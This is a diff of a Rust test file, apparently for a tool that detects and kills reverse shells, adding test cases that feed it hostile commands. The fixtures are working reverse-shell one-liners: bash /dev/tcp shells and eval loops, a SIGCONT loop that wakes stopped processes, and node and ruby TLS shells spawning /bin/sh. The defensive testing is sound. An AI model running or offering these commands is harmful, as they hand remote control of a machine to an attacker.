@@ -355,20 +355,53 @@ fn relays_with_pipes() -> Result<()> {
     )
 }
 
-/// What can be a client that asks a server something, or a relay that sees through its encryption, is judged by what it does;
-/// and what another process of the job lets go on executes something before it is stopped again.
+/// What another process of the job lets go on can execute something before it is stopped again.
 #[test]
-fn what_has_to_be_seen_first() -> Result<()> {
+fn somebody_who_wakes_a_stopped_shell() -> Result<()> {
     assert_killed(
         FirstCommand::MayRun,
+        &[(
+            "somebody who wakes it",
+            "bash -c 'while kill -CONT 0; do :; done' 2>/dev/null & bash -i >& /dev/tcp/$P/4444 0>&1",
+        )],
+    )
+}
+
+/// The shell holds its connection beside its streams, and its output is there only while it executes a command.
+#[test]
+fn loops_of_the_shells_own() -> Result<()> {
+    assert_killed(
+        FirstCommand::Stopped,
         &[
             (
                 "a loop of the shell's own",
                 "bash -c 'exec 5<>/dev/tcp/$P/4444; cat <&5 | while read line; do eval \"$line\" >&5 2>&5; done'",
             ),
             (
-                "somebody who wakes it",
-                "bash -c 'while kill -CONT 0; do :; done' 2>/dev/null & bash -i >& /dev/tcp/$P/4444 0>&1",
+                "a loop that reads by itself",
+                "bash -c 'exec 5<>/dev/tcp/$P/4444; while read -r line <&5; do eval \"$line\" >&5 2>&5; done'",
+            ),
+            (
+                "a loop that keeps its errors to itself",
+                "bash -c 'exec 5<>/dev/tcp/$P/4444; while read -r line <&5; do eval \"$line\" >&5; done'",
+            ),
+        ],
+    )
+}
+
+/// What the shell is given is not what the connection received: the relay sees through its encryption.
+#[test]
+fn relays_with_encryption_of_their_own() -> Result<()> {
+    assert_killed(
+        FirstCommand::Stopped,
+        &[
+            (
+                "node with TLS",
+                "node -e 'const s=require(\"tls\").connect({host:process.env.P,port:4445,rejectUnauthorized:false},()=>{const h=require(\"child_process\").spawn(\"/bin/sh\"); s.pipe(h.stdin); h.stdout.pipe(s); h.stderr.pipe(s)})'",
+            ),
+            (
+                "ruby with TLS",
+                "ruby -rsocket -ropenssl -ropen3 -e 's=OpenSSL::SSL::SSLSocket.new(TCPSocket.new(ENV[\"P\"],4445)); s.connect; i,o=Open3.popen2e(\"/bin/sh\"); Thread.new{loop{s.write(o.readpartial(4096))}}; loop{i.write(s.readpartial(4096)); i.flush}'",
             ),
             (
                 "a relay of one's own with TLS",
